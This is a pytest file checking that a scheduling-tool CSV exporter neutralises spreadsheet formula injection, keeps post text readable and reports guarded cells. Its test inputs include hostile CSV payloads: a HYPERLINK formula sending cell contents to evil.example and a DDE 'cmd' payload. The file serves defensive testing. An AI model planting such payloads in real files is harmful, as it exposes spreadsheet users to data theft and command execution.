"""Formula injection in the scheduling-tool CSVs (issue 17, item 4): no cell of the Publer,
Hootsuite or Sprout file begins with a character a spreadsheet reads as a formula, nor does one
follow a separator a spreadsheet may split on; the text stays readable (no apostrophe in the
post) and the export says, per file, that cells were guarded."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timezone
from zoneinfo import ZoneInfo

import pytest

from prepub.core.export.scheduling import TOOLS, MediaRef, ScheduledPost, build_tool_file
from prepub.core.messages import message
from prepub.core.policy import load_policy

ZONE = ZoneInfo("Europe/Stockholm")
NOW = datetime(2026, 11, 23, 9, 0, tzinfo=timezone.utc)
WHEN = datetime(2027, 6, 1, 8, 0, tzinfo=timezone.utc)
ZWSP = "\u200b"

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Klicka")',
    "+46 70 123 45 67 ring oss",
    "- Vi ses på fredag!",
    "@Kommunen tack för i går",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n@SUM(1+1)",
    "\uff1d1+1",  # full-width equals sign
]
# A separator a spreadsheet may split on (a Swedish Excel splits on ";"), then a formula.
MID = ["Hej;=1+1", 'Hej, "=1+1"', "Kom kl. 10,-fika", "Tack;\t@SUM(1)"]
# What a spreadsheet reads as a formula: a trigger first, or after a separator (and quotes/spaces).
FORMULA = re.compile(r"""(?:^|[,;\t])["'\s]*[=+\-@\uff1d\uff0b\uff0d\uff20]""")


@pytest.fixture(scope="module")
def policy():  # type: ignore[no-untyped-def]
    return load_policy(language="sv")


def _post(text: str, *, link: str | None = None, alt: str = "Barn vid sjön") -> ScheduledPost:
    return ScheduledPost(post_id="p1", channel="facebook", text=text, when=WHEN, link=link,
                         media=(MediaRef("images/a.jpg", alt),), label="Facebook")


def _cells(content: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(content, newline="")) for c in row]


@pytest.mark.parametrize("tool", sorted(TOOLS))
@pytest.mark.parametrize("text", HOSTILE + MID)
def test_no_cell_of_any_tool_reads_as_a_formula(tool: str, text: str, policy) -> None:  # type: ignore[no-untyped-def]
    tf = build_tool_file(tool, [_post(text, link="=HYPERLINK(\"x\")", alt="-Bild: @hemlig")],
                         now=NOW, zone=ZONE, policy=policy)
    assert tf.content is not None
    for cell in _cells(tf.content):
        assert not FORMULA.search(cell), (tool, cell)
        assert not cell.startswith("'")  # the apostrophe would be published with the post
    notes = [f for f in tf.findings if f.rule == "export.schedule.formula_neutralised"]
    assert len(notes) == 1 and notes[0].params["cells"] >= 1
    assert notes[0].params["tool"] == TOOLS[tool].label and notes[0].params["channel"] == "Facebook"
    for lang in ("sv", "en", "da"):
        text_ = message(notes[0], lang)
        assert TOOLS[tool].label in text_ and "{" not in text_


@pytest.mark.parametrize("tool", sorted(TOOLS))
def test_text_stays_readable_and_only_an_invisible_mark_is_added(tool: str, policy) -> None:  # type: ignore[no-untyped-def]
    for text in ("@Kommunen tack för i går", "- Vi ses på fredag!"):
        tf = build_tool_file(tool, [_post(text)], now=NOW, zone=ZONE, policy=policy)
        cells = _cells(tf.content or "")
        assert ZWSP + text in cells
        assert [c.replace(ZWSP, "") for c in cells if ZWSP in c] == [text]


@pytest.mark.parametrize("tool", sorted(TOOLS))
def test_ordinary_text_is_untouched_and_not_reported(tool: str, policy) -> None:  # type: ignore[no-untyped-def]
    text = 'Sommarlov! Vi ses vid "sjön", kl. 10 - välkomna @ stranden. E-post: a@b.se'
    tf = build_tool_file(tool, [_post(text, link="https://example.se/a")], now=NOW, zone=ZONE,
                         policy=policy)
    assert ZWSP not in (tf.content or "")
    assert text in _cells(tf.content or "")
    assert not [f for f in tf.findings if f.rule == "export.schedule.formula_neutralised"]


def test_the_guard_counts_towards_the_length_limit(policy) -> None:  # type: ignore[no-untyped-def]
    p = ScheduledPost(post_id="p1", channel="x", text="@" + "a" * 279, when=WHEN, max_chars=280,
                      label="X")
    tf = build_tool_file("sprout", [p], now=NOW, zone=ZONE, policy=policy)
    assert tf.content is None  # 281 characters reach the tool
    assert [f.params["length"] for f in tf.findings
            if f.rule == "export.schedule.text_too_long"] == [281]


def test_guard_formula_is_idempotent() -> None:
    from prepub.core.export.scheduling import guard_formula

    once, changed = guard_formula("Hej;=1+1")
    assert changed and guard_formula(once) == (once, False)


def test_the_export_result_names_each_file_with_guarded_cells(tmp_path, policy) -> None:  # type: ignore[no-untyped-def]
    from pathlib import Path

    from prepub.core.draft import Draft
    from prepub.core.export import export_bundle

    draft = Draft(text="@Kommunen tack för i går! =HYPERLINK(\"https://evil.example\")",
                  channels=["facebook", "x"], title="Tack",
                  scheduled_at="2026-12-01T10:00:00+01:00")
    r = export_bundle(draft, out_dir=tmp_path / "out", policy=policy, findings=[], now=NOW,
                      formats=["publer", "hootsuite", "sprout"], lang="sv")
    notes = [f for f in r.notices if f.rule == "export.schedule.formula_neutralised"]
    assert sorted(f.params["tool"] for f in notes) == ["Hootsuite", "Publer", "Sprout Social"]
    assert all(set(f.params["channel"].split(", ")) == {"Facebook", "X"} for f in notes)
    summary = "\n".join(r.summary("en"))
    assert summary.count("began with a character spreadsheets read as a formula") == 3
    for name in r.files:
        if name.startswith("scheduling/"):
            cells = _cells((Path(r.path) / name).read_text(encoding="utf-8"))
            assert not any(FORMULA.search(c) for c in cells), name
            assert any(c.startswith(ZWSP + "@Kommunen tack") for c in cells), name
    text = (Path(r.path) / "text" / "facebook.txt").read_text(encoding="utf-8")
    assert text.startswith("@Kommunen") and ZWSP not in text  # the text file keeps the original
